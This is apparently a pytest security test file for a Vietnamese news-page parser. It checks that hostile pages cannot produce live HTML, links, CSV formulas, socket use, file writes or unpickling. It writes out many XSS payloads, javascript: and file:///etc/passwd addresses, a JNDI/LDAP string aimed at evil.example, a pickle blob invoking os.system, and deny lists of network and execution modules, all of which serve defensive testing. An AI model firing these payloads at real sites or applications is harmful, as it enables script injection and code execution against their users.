"""What a hostile page may not do: run in a browser or a spreadsheet, reach the network, or touch other files."""

from __future__ import annotations

import ast
import csv
import io
import socket
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

import vnnews
from vnnews.models import (
    Article,
    Block,
    Caption,
    Label,
    Mention,
    Metadatum,
    Official,
    Page,
    PageType,
    Passage,
    Post,
    RelatedStory,
)
from vnnews.write.csv import FORMULA_SIGNS, to_csv
from vnnews.write.html import render_view
from vnnews.write.html.escape import link_address
from vnnews.write.tables import tabulate_articles, tabulate_mentions, tabulate_officials

SOURCE = Path(vnnews.__file__).parent

VECTORS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "\"><svg/onload=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<!--><script>alert(1)</script>",
    "<math><mi//xlink:href='javascript:alert(1)'>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<x onclick=alert(1)//", "`${alert(1)}`",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>",
    "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>", "\x00<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>",
    "vbscript:x", "file:///etc/passwd", "//evil.example/", "blob:x", "https:\\evil", "ftp://a.vn/", "javascript://https://a.vn/%0aalert(1)",
]  # fmt: skip
HARMLESS_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "script",
        "body",
        "a",
        "header",
        "h1",
        "h2",
        "h3",
        "h4",
        "div",
        "fieldset",
        "legend",
        "label",
        "input",
        "button",
        "main",
        "section",
        "article",
        "p",
        "span",
        "small",
        "mark",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "br",
        "ul",
        "li",
        "b",
        "code",
    ]
)


class Reader(HTMLParser):
    """Gathers the elements as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1][0] == "script":
            self.scripts.append(data)


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def page_full_of(text: str) -> Page:
    """A page with the text in every field that a page can fill."""
    mention = Mention(0, len(text), text, text)
    article = Article(
        text, section=text, sapo=text, body=text, captions=(Caption(text, 0, len(text), text, text),), dateline=text, authors=(text,), source=text,
        url=text, tags=(text,), text=text, passages=(Passage("body", 0, len(text), text),), sentences=(vnnews.Sentence(0, len(text), text),),
        provinces=(vnnews.Province(text, text, text, text, successors=(text,), mentions=(mention,)),),
        agencies=(vnnews.Agency(text, text, text, text, text, text, (mention,)),),
        officials=(Official(text, text, text, (Post(text, text, text, text, text, 0, len(text)),), False, (mention,)),),
    )  # fmt: skip
    return Page(
        text, "html", PageType.ARTICLE, text, (Block(0, len(text), text, Label.BODY, text, 0, text),), (article,),
        (RelatedStory(text, text, text),), (Metadatum("title", text, "meta"),),
    )  # fmt: skip


def fragments(page: Page) -> list[str]:
    article = page.articles[0]
    return [
        page._repr_html_(),
        article._repr_html_(),
        article.officials[0]._repr_html_(),
        render_view(page, name=page.text),
    ]


def check_harmless(html: str, plain: str) -> None:
    """Fail when the view of a hostile page has another element or a live attribute more than that of a harmless one."""
    hostile, harmless = read(html), read(plain)
    assert [tag for tag, _ in hostile.tags if tag != "a"] == [tag for tag, _ in harmless.tags if tag != "a"]
    assert {tag for tag, _ in hostile.tags} <= HARMLESS_TAGS
    assert hostile.scripts == harmless.scripts
    for tag, attributes in hostile.tags:
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
        assert "src" not in attributes
        if (target := attributes.get("href")) is not None:
            assert target.startswith(("http://", "https://", "#"))


@pytest.mark.parametrize("vector", VECTORS)
def test_no_field_of_a_page_becomes_mark_up(vector: str) -> None:
    for html, plain in zip(fragments(page_full_of(vector)), fragments(page_full_of("tin")), strict=True):
        check_harmless(html, plain)


@pytest.mark.parametrize("vector", VECTORS)
def test_no_page_runs_in_its_view(vector: str) -> None:
    """The way through the whole pipeline: title, alternative text, caption, address, author and paragraph."""
    quoted = vector.replace('"', "&quot;").replace("<", "&lt;")
    shown = vector.replace("<", "&lt;")
    page = vnnews.Pipeline(words=False).parse_page(
        f'<title>{shown}</title><meta name="author" content="{quoted}"><link rel="canonical" href="{quoted}"><h1>Phố ngập {shown}</h1>'
        f'<figure><img src="a.jpg" alt="{quoted}"><figcaption>{shown} Ảnh: {shown}</figcaption></figure>'
        f"<p>Sáng nay, mưa lớn làm nhiều tuyến đường ngập sâu {shown}, giao thông ùn tắc kéo dài đến tận trưa.</p>"
        f"<p>Ông Trần Văn An, Giám đốc Sở Y tế tỉnh Quảng Ninh, nói người dân nên ở nhà {shown} cho đến khi nước rút hết.</p>"
        f'<ul><li><a href="{quoted}">Giá xăng tăng {shown}</a></li></ul>'
    )
    for html in (page._repr_html_(), render_view(page), *(article._repr_html_() for article in page.articles)):
        reader = read(html)
        assert {tag for tag, _ in reader.tags} <= HARMLESS_TAGS
        assert sum(tag == "script" for tag, _ in reader.tags) == html.startswith("<!doctype")
        assert not any(name.startswith("on") for _, attributes in reader.tags for name in attributes)


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_web_addresses_become_links(address: str) -> None:
    assert "<a" not in link_address(address)
    for html in fragments(page_full_of(address)):
        assert all((attributes.get("href") or "#").startswith("#") for _, attributes in read(html).tags)


def test_the_view_forbids_other_scripts_and_every_address() -> None:
    html = render_view(page_full_of("tin"))
    policy = next(attributes["content"] for tag, attributes in read(html).tags if "http-equiv" in attributes)
    assert policy is not None
    assert "default-src 'none'" in policy
    assert "unsafe-inline" not in policy.partition("script-src")[2]


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_no_cell_is_a_formula(sign: str) -> None:
    page = page_full_of(f"{sign}HYPERLINK(1)")
    for table in (tabulate_articles([page]), tabulate_officials([page]), tabulate_mentions([page])):
        rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
        assert len(rows) == 1 + len(table["article"])
        assert {len(row) for row in rows} == {len(table)}
        assert not any(cell.startswith(FORMULA_SIGNS) for row in rows for cell in row)


def test_a_table_of_the_gazetteer_holds_no_formula(invoke) -> None:  # type: ignore[no-untyped-def]
    for table in ("provinces", "abbreviations", "roles"):
        written = invoke("gazetteer", "export", "--table", table).output
        assert not any(cell.startswith(FORMULA_SIGNS) for row in csv.reader(io.StringIO(written)) for cell in row)


def test_no_socket_is_opened(monkeypatch: pytest.MonkeyPatch, article: str) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    remote = "<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd'><link rel=stylesheet href=http://evil.example/><img src=http://evil.example/x.png>"
    assert vnnews.parse(article).officials
    page = vnnews.parse_page(remote + "".join(f"<p>{line}</p>" for line in article.split("\n\n")))
    render_view(page)


# What the interpreter may do while a page is worked on; the hook cannot be removed, so it asks a switch.
_watched: list[str] = []
_is_watching = False


def _note(event: str, arguments: tuple[object, ...]) -> None:
    if not _is_watching:
        return
    if event.startswith(
        (
            "socket.",
            "subprocess.",
            "os.system",
            "os.exec",
            "os.posix_spawn",
            "ctypes.dlopen",
            "pickle.find_class",
            "shutil.",
        )
    ) or event in (
        "os.remove",
        "os.rename",
        "os.mkdir",
        "os.rmdir",
        "os.chmod",
        "os.link",
        "os.symlink",
        "os.truncate",
        "compile",
    ):
        _watched.append(event)
    elif event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        _watched.append(f"open {arguments[0]!r} for writing")


@pytest.fixture
def watched() -> Iterator[list[str]]:
    global _is_watching  # noqa: PLW0603 - an audit hook stays until the interpreter ends
    if _note not in _hooks:
        sys.addaudithook(_note)
        _hooks.append(_note)
    _watched.clear()
    _is_watching = True
    yield _watched
    _is_watching = False


_hooks: list[object] = []


def test_nothing_is_written_started_or_unpickled_while_a_page_is_read(article: str, watched: list[str]) -> None:
    """The audit events of the interpreter, for a warm pipeline: no file for writing, no process, no socket, no code compiled."""
    global _is_watching  # noqa: PLW0603
    _is_watching = False
    hostile = "<h1>{0}</h1><p>../../etc/passwd {0} __import__('os').system('x') {{% x %}} ${{jndi:ldap://evil.example/a}}</p>".format(
        article.split("\n", maxsplit=1)[0]
    )
    pages = [
        article,
        hostile + "".join(f"<p>{line}</p>" for line in article.split("\n\n")),
        b"\x80\x04cos\nsystem\n(S'x'\ntR.",
    ]
    list(
        vnnews.Pipeline().pipe(pages)
    )  # models and tables are loaded, and their modules compiled, before the watch begins
    _is_watching = True
    list(vnnews.Pipeline().pipe(pages))
    _is_watching = False
    assert watched == []


FORBIDDEN_CALLS = {"eval", "exec", "__import__", "compile"}
FORBIDDEN_MODULES = {
    "pickle",
    "marshal",
    "shelve",
    "joblib",
    "requests",
    "httpx",
    "aiohttp",
    "ftplib",
    "telnetlib",
    "smtplib",
    "dill",
    "cloudpickle",
}


@pytest.mark.parametrize("path", sorted(SOURCE.rglob("*.py")), ids=lambda path: str(path.relative_to(SOURCE)))
def test_the_source_has_no_eval_no_pickle_and_no_network(path: Path) -> None:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            assert node.func.id not in FORBIDDEN_CALLS
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            assert node.func.attr not in {
                "extractall",
                "extract",
                "urlopen",
                "urlretrieve",
                "system",
                "popen",
                "unsafe_load",
                "full_load",
            }
            assert not any(keyword.arg == "shell" for keyword in node.keywords)
        elif isinstance(node, ast.Import):
            assert not FORBIDDEN_MODULES & {name.name.split(".")[0] for name in node.names}
            assert not {"urllib.request", "http.client"} & {name.name for name in node.names}
        elif isinstance(node, ast.ImportFrom):
            assert (node.module or "").split(".")[0] not in FORBIDDEN_MODULES
            assert node.module not in ("urllib.request", "http.client")
